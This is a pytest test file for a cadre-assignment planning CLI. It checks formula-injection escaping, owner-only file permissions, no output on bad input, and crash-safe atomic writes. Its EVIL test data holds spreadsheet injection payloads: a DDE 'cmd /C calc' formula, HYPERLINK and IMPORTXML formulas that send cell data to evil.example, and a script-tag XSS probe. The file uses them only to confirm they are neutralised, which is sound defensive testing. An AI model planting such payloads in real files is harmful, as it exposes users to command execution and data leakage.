"""Safety of what the tool writes (issue 7 §3–5): formula injection neutralised in every output, owner-only files
and folders, nothing written on bad input, and plan files written whole or not at all even when the process dies.

The scenario is the tiny one of tests/test_cli_solve (cadre A → post PX1, cadre B → seat S1, post PX2 unfilled),
with every name, title and id that reaches an output rewritten to start like a spreadsheet formula.
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest
from typer.testing import CliRunner

from planner.cli import app
from planner.report import OUTPUT_FILES
from tests.test_cli_solve import POSTS, SEATS, write_scenario

runner = CliRunner()
ROOT = Path(__file__).resolve().parent.parent
BAD = Path(__file__).parent / "data" / "bad"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

# Payloads a spreadsheet would run: DDE, a web lookup, a sum, a negative-looking expression.
EVIL = {
    "name_a": "=cmd|' /C calc'!A0",
    "name_b": "@SUM(1+1)*cmd|' /C calc'!A0",
    "title_1": "+Chủ tịch UBND xã",
    "title_2": "-2+3+Bí thư Đảng ủy xã",
    "unit_x1": "=HYPERLINK(\"http://evil.example/?\"&A1;\"Xã X1\")",
    "unit_h1p": "@Phòng Nông nghiệp H1",
    "unit_snn": "-Sở Nông nghiệp",
    "reason": "=IMPORTXML(\"http://evil.example\";\"//a\")",
    "cadre_b": "=B",
}


def _csv(rows: list[list[str]]) -> str:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows(rows)
    return buffer.getvalue()


def evil_scenario(folder: Path, *, drop_seat: bool = False) -> Path:
    """The tiny scenario with formula-like names, titles, unit names, a lock reason and a cadre id."""
    e = EVIL
    units = _csv([
        ["unit_id", "name", "level", "parent_id", "difficult", "ethnic_area", "languages"],
        ["P", "Tỉnh", "province", "", "", "", ""],
        ["SNN", e["unit_snn"], "province_dept", "P", "", "", ""],
        ["H1", "Huyện H1", "district", "P", "", "", ""],
        ["H1P", e["unit_h1p"], "district_office", "H1", "", "", ""],
        ["X1", e["unit_x1"], "commune", "H1", "x", "x", "Thái"],
        ["X2", "Xã X2", "commune", "H1", "", "", ""],
    ])
    head = ["cadre_id", "full_name", "gender", "birth_date", "unit_id", "education", "political_theory", "ethnicity",
            "home_unit_id", "rank", "field", "state_mgmt", "party_member", "planned_titles", "languages"]
    cadres = _csv([
        head,
        ["A", e["name_a"], "nam", "1985-01", "H1P", "dai_hoc", "trung_cap", "Thái", "X2", "1", "Nông nghiệp",
         "chuyen_vien", "x", e["title_1"], "Thái"],
        [e["cadre_b"], e["name_b"], "nữ", "1995-06", "X2", "dai_hoc", "trung_cap", "Mông", "X2", "1", "Nông nghiệp",
         "chuyen_vien", "x", "", "Mông"],
    ])
    posts = _csv([
        ["post_id", "unit_id", "title", "open_from", "open_to", "months", "priority"],
        ["PX1", "X1", e["title_1"], "2027-01", "2027-06", "36", "4"],
        ["PX2", "X2", e["title_2"], "2027-01", "2027-06", "36", "5"],
    ])
    scenario = write_scenario(folder, cadres=cadres, posts=posts)
    (folder / "units.csv").write_text(units, "utf-8")
    (folder / "locks.csv").write_text(_csv([["action", "cadre_id", "target_id", "start", "reason"],
                                            ["pin", "A", "PX1", "", e["reason"]]]), "utf-8")
    text = scenario.read_text("utf-8").replace("  seats: seats.csv\n", "  seats: seats.csv\n  locks: locks.csv\n")
    if drop_seat:
        text += "patches:\n  - {table: seats, where: {seat_id: S1}, drop: true}\n"
        text = text.replace("name: Thử nghiệm", "name: '=Không biệt phái'")
    scenario.write_text(text, "utf-8")
    assert SEATS  # seats.csv is the one of test_cli_solve
    return scenario


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_cell_safe(value: object, where: str) -> None:
    """A text cell never starts like a formula, except a plain number such as -2."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        assert _is_number(value), f"{where}: {value!r} would run as a formula"


def cells_of(path: Path) -> list[tuple[str, object]]:
    """Every cell of a CSV or workbook output as (where, value); workbooks read without evaluating formulas."""
    if path.suffix == ".csv":
        rows = list(csv.reader(io.StringIO(path.read_text("utf-8"))))
        return [(f"{path.name}:{r + 1}:{c + 1}", v) for r, row in enumerate(rows) for c, v in enumerate(row)]
    book = openpyxl.load_workbook(path)  # not data_only: a formula would come back as a formula
    out = []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{path.name}!{ws.title}!{cell.coordinate} is a formula: {cell.value}"
                out.append((f"{path.name}!{ws.title}!{cell.coordinate}", cell.value))
    return out


def assert_outputs_safe(folder: Path, expect: set[str]) -> None:
    """No cell of any CSV/XLSX under `folder` runs as a formula, and every payload in `expect` is there, defused."""
    seen: set[str] = set()
    files = sorted(p for p in folder.rglob("*") if p.suffix in (".csv", ".xlsx"))
    assert files
    for path in files:
        for where, value in cells_of(path):
            assert_cell_safe(value, where)
            if isinstance(value, str):
                seen.update(k for k in expect if "'" + EVIL[k] == value)
    assert seen == expect, f"payloads not found neutralised: {expect - seen}"


def test_formula_injection_neutralised_in_solve_outputs(tmp_path: Path) -> None:
    out = tmp_path / "out"
    res = runner.invoke(app, ["solve", str(evil_scenario(tmp_path / "in")), "--out", str(out), "--time-limit", "10",
                              "--workers", "1"])
    assert res.exit_code == 0, res.output
    # A (=cmd…) takes PX1 (+Chủ tịch…) in X1 (=HYPERLINK…) from H1P (@Phòng…), pinned with an =IMPORTXML reason;
    # =B (@SUM…) is seconded to S1 in SNN (-Sở…); PX2 (-2+3+Bí thư…) stays empty: every payload reaches a cell.
    assert_outputs_safe(out, set(EVIL))
    # The payload is kept as text, readable: only an apostrophe is added in front.
    rows = list(csv.DictReader(io.StringIO((out / "assignments.csv").read_text("utf-8"))))
    assert {r["full_name"] for r in rows} == {"'" + EVIL["name_a"], "'" + EVIL["name_b"]}


def test_formula_injection_neutralised_in_compare_outputs(tmp_path: Path) -> None:
    base = evil_scenario(tmp_path / "in")
    other = evil_scenario(tmp_path / "in2", drop_seat=True)
    out = tmp_path / "cmp"
    res = runner.invoke(app, ["compare", str(base), str(other), "--out", str(out), "--time-limit", "10",
                              "--workers", "1", "--deterministic"])
    assert res.exit_code == 0, res.output
    assert (out / "compare.xlsx").is_file()
    # compare.xlsx lists the removed secondment of =B (@SUM…) from SNN (-Sở…) and each scenario's assignments.
    for where, value in cells_of(out / "compare.xlsx"):
        assert_cell_safe(value, where)
    texts = {v for _, v in cells_of(out / "compare.xlsx") if isinstance(v, str)}
    assert {"'" + EVIL["name_b"], "'" + EVIL["name_a"], "'" + EVIL["unit_snn"]} <= texts
    assert_outputs_safe(out, set(EVIL))
    # The HTML page escapes the same text (no markup from input).
    page = (out / "compare.html").read_text("utf-8")
    assert EVIL["unit_x1"] not in page and "HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1" in page


def test_html_markup_from_input_is_escaped(tmp_path: Path) -> None:
    base = evil_scenario(tmp_path / "in")
    cadres = (tmp_path / "in" / "cadres.csv").read_text("utf-8").replace(EVIL["name_a"].replace('"', '""'),
                                                                        "<script>alert(1)</script>")
    (tmp_path / "in" / "cadres.csv").write_text(cadres, "utf-8")
    other = evil_scenario(tmp_path / "in2", drop_seat=True)
    (tmp_path / "in2" / "cadres.csv").write_text(cadres, "utf-8")
    out = tmp_path / "cmp"
    res = runner.invoke(app, ["compare", str(base), str(other), "--out", str(out), "--time-limit", "10",
                              "--workers", "1"])
    assert res.exit_code == 0, res.output
    page = (out / "compare.html").read_text("utf-8")
    assert "<script>alert(1)</script>" not in page


# --- owner-only outputs ----------------------------------------------------------------------------------------

def _modes(root: Path) -> dict[str, int]:
    return {str(p.relative_to(root)): p.stat().st_mode & 0o777 for p in [root, *root.rglob("*")]}


@pytest.fixture
def open_umask():  # type: ignore[no-untyped-def]
    """A permissive umask (0o000), so that only the tool's own care makes files private."""
    old = os.umask(0)
    yield
    os.umask(old)


def test_solve_outputs_are_owner_only_even_with_open_umask(tmp_path: Path, open_umask: None) -> None:
    out = tmp_path / "new" / "nested" / "out"  # three folders the tool creates
    res = runner.invoke(app, ["solve", str(write_scenario(tmp_path / "in")), "--out", str(out), "--time-limit",
                              "10", "--workers", "1"])
    assert res.exit_code == 0, res.output
    modes = _modes(tmp_path / "new")
    files = {k: v for k, v in modes.items() if (tmp_path / "new" / k).is_file()}
    folders = {k: v for k, v in modes.items() if k not in files}
    assert set(files) == {f"nested/out/{n}" for n in OUTPUT_FILES}
    assert set(files.values()) == {0o600}, files
    assert set(folders.values()) == {0o700}, folders


def test_compare_outputs_are_owner_only(tmp_path: Path, open_umask: None) -> None:
    scenario = write_scenario(tmp_path / "in")
    out = tmp_path / "cmp"
    res = runner.invoke(app, ["compare", str(scenario), str(scenario), "--out", str(out), "--time-limit", "10",
                              "--workers", "1"])
    assert res.exit_code == 0, res.output
    modes = _modes(out)
    assert len(modes) > 5
    for name, mode in modes.items():
        assert mode == (0o600 if (out / name).is_file() else 0o700), (name, oct(mode))


def test_replacing_a_world_readable_file_makes_it_private(tmp_path: Path, open_umask: None) -> None:
    out = tmp_path / "out"
    out.mkdir(mode=0o755)
    (out / "plan.xlsx").write_bytes(b"old")
    os.chmod(out / "plan.xlsx", 0o644)
    res = runner.invoke(app, ["solve", str(write_scenario(tmp_path / "in")), "--out", str(out), "--workers", "1"])
    assert res.exit_code == 0, res.output
    assert (out / "plan.xlsx").stat().st_mode & 0o777 == 0o600
    assert (out / "plan.xlsx").read_bytes()[:2] == b"PK"


# --- nothing written on bad input ------------------------------------------------------------------------------

BAD_CASES = sorted(p.name for p in BAD.iterdir() if p.is_dir() and not p.name.startswith(("_", ".")))


@pytest.fixture(scope="module")
def binary_cases(tmp_path_factory: pytest.TempPathFactory) -> Path:
    from tests.test_validate_cli import BINARY

    root = tmp_path_factory.mktemp("bad")
    BINARY.make(root)
    return root


def _all_bad_scenarios(binary_root: Path) -> list[Path]:
    from tests.test_validate_cli import BINARY

    return [BAD / c / "scenario.yaml" for c in BAD_CASES] + [binary_root / c / "scenario.yaml"
                                                           for c in sorted(BINARY.CASES)]


def test_solve_writes_nothing_on_any_bad_input(tmp_path: Path, binary_cases: Path) -> None:
    # Every case of the bad-input corpus: exit 1, the errors listed, no traceback, and --out never created.
    scenarios = _all_bad_scenarios(binary_cases)
    assert len(scenarios) >= 40
    for n, scenario in enumerate(scenarios):
        out = tmp_path / f"out{n}"
        res = runner.invoke(app, ["solve", str(scenario), "--out", str(out), "--time-limit", "5"])
        output = res.stdout + res.stderr
        assert res.exit_code == 1, (scenario, output)
        assert "Traceback" not in output and (res.exception is None or isinstance(res.exception, SystemExit))
        assert not out.exists(), scenario


def test_solve_leaves_an_existing_out_folder_untouched_on_bad_input(tmp_path: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    (out / "plan.xlsx").write_bytes(b"the committee's previous plan")
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    res = runner.invoke(app, ["solve", str(BAD / "duplicate_cadre_id" / "scenario.yaml"), "--out", str(out)])
    assert res.exit_code == 1
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before


@pytest.mark.parametrize("case", ["duplicate_cadre_id", "path_escape", "yaml_python_tag", "extends_cycle",
                                  "window_outside_horizon"])
def test_compare_writes_nothing_when_one_scenario_is_bad(tmp_path: Path, case: str) -> None:
    good = write_scenario(tmp_path / "in")
    out = tmp_path / "cmp"
    res = runner.invoke(app, ["compare", str(good), str(BAD / case / "scenario.yaml"), "--out", str(out)])
    assert res.exit_code == 1, res.output
    assert "Traceback" not in res.stdout + res.stderr
    assert not out.exists()


def test_validate_writes_nothing(tmp_path: Path) -> None:
    # validate has no --out; it must not create anything next to the scenario either (no cache, no lock file).
    case = tmp_path / "case"
    shutil.copytree(BAD / "_shared", case)
    before = sorted(p.name for p in case.rglob("*"))
    assert runner.invoke(app, ["validate", str(case / "base.yaml")]).exit_code == 0
    assert sorted(p.name for p in case.rglob("*")) == before


# --- a crash while writing ----------------------------------------------------------------------------------

CRASH_CHILD = r"""
import os, signal, sys
from pathlib import Path
import planner.io.atomic as atomic

mode, n = sys.argv[3], int(sys.argv[4])
calls = {"fsync": 0, "replace": 0}
real_fsync, real_replace = os.fsync, os.replace

def die():
    os.kill(os.getpid(), signal.SIGKILL)  # no cleanup, no finally: like a power cut or the OOM killer

def fsync(fd):
    calls["fsync"] += 1
    if mode == "stage" and calls["fsync"] == n:
        os.ftruncate(fd, os.fstat(fd).st_size // 2)  # the temporary file is half written
        die()
    return real_fsync(fd)

def replace(src, dst):
    if mode == "replace" and calls["replace"] == n:
        die()
    calls["replace"] += 1
    return real_replace(src, dst)

atomic.os.fsync = fsync
atomic.os.replace = replace
from planner.commands.solve import run_solve
sys.exit(run_solve(Path(sys.argv[1]), Path(sys.argv[2]), workers=1, seed=0, deterministic=True))
"""


def stable(name: str, data: bytes) -> bytes:
    """A file without its run-time fields: kpis.json's wall_time_s, and so the kpis.json hash in manifest.json."""
    if name == "kpis.json":
        doc = json.loads(data)
        doc.pop("wall_time_s")
        return json.dumps(doc, sort_keys=True).encode()
    if name == "manifest.json":
        doc = json.loads(data)
        doc["outputs"].pop("kpis.json")
        return json.dumps(doc, sort_keys=True).encode()
    return data


def _deterministic_set(scenario: Path, out: Path) -> dict[str, bytes]:
    res = runner.invoke(app, ["solve", str(scenario), "--out", str(out), "--workers", "1", "--seed", "0",
                              "--deterministic"])
    assert res.exit_code == 0, res.output
    return {name: (out / name).read_bytes() for name in OUTPUT_FILES}


@pytest.fixture(scope="module")
def crash_setup(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, bytes], dict[str, bytes], Path]:
    root = tmp_path_factory.mktemp("crash")
    new_scenario = write_scenario(root / "new")
    # The "old" plan: B may not move (a forbid lock) and PX2 has priority 3, so every output differs from the new.
    old_scenario = write_scenario(root / "old", locks="forbid,B,,,Nghỉ thai sản\n",
                                  posts=POSTS.replace(",5\n", ",3\n"))
    new = _deterministic_set(new_scenario, root / "new_out")
    old = _deterministic_set(old_scenario, root / "old_out")
    assert all(new[n] != old[n] for n in OUTPUT_FILES)
    return new_scenario, new, old, root / "old_out"


@pytest.mark.parametrize(("mode", "n"), [("stage", 1), ("stage", 4), ("stage", 5), ("replace", 0),
                                         ("replace", 3), ("replace", 4)])
def test_killed_while_writing_leaves_whole_files(tmp_path: Path, crash_setup: tuple, mode: str, n: int) -> None:
    # The process is SIGKILLed while staging the n-th file (its temporary half written) or just before the n-th
    # rename. Whatever the moment, each visible output is whole: byte for byte the old run's or the new run's file,
    # never a mixture, and the manifest (renamed last) always describes the old set unless the set is complete.
    scenario, new, old, old_out = crash_setup
    out = tmp_path / "out"
    shutil.copytree(old_out, out)
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    proc = subprocess.run([sys.executable, "-c", CRASH_CHILD, str(scenario), str(out), mode, str(n)], env=env,
                          capture_output=True, text=True, timeout=120)
    assert proc.returncode == -9, proc.stderr
    visible = {p.name: p.read_bytes() for p in out.iterdir() if not p.name.startswith(".")}
    assert set(visible) == set(OUTPUT_FILES)
    for name, data in visible.items():
        assert stable(name, data) in (stable(name, old[name]), stable(name, new[name])), name
    if mode == "stage":  # nothing renamed yet: the old set, untouched
        assert visible == old
    else:
        assert [stable(name, visible[name]) == stable(name, new[name]) for name in OUTPUT_FILES] == [
            i < n for i in range(len(OUTPUT_FILES))]
        manifest = json.loads(visible["manifest.json"])
        stale = [name for name, digest in manifest["outputs"].items()
                 if __import__("hashlib").sha256(visible[name]).hexdigest() != digest]
        assert sorted(stale) == sorted(OUTPUT_FILES[:n])  # the mixed set is detectable from the manifest
    # Leftover temporaries are hidden dot-files named after their target, never a visible output.
    assert all(p.name.startswith(".") and p.name.endswith(".tmp") for p in out.iterdir() if p.name not in visible)
    with zipfile.ZipFile(out / "plan.xlsx") as z:
        assert z.testzip() is None
